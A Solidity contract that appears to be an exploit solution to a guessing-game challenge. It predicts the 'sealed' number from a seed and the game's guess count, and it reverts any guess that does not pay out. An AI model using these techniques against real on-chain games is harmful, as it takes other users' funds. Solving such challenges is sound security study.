// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./contract.sol";

contract Reader {
    constructor() payable {}

    function play(SealedNumber game, uint256 seed, uint256 times) external {
        for (uint256 i = 0; i < times; i++) {
            game.guess{value: 0.1 ether}((seed + game.guessed() * 5) % 6);
        }
        game.collect();
    }

    /// Guesses, and takes it back unless it was right.
    function insist(SealedNumber game, uint256 value) external {
        try this.right(game, value) {} catch {}
    }

    function right(SealedNumber game, uint256 value) external {
        uint256 before = address(this).balance;
        game.guess{value: 0.1 ether}(value);
        game.collect();
        require(address(this).balance > before, "wrong");
    }

    receive() external payable {}
}
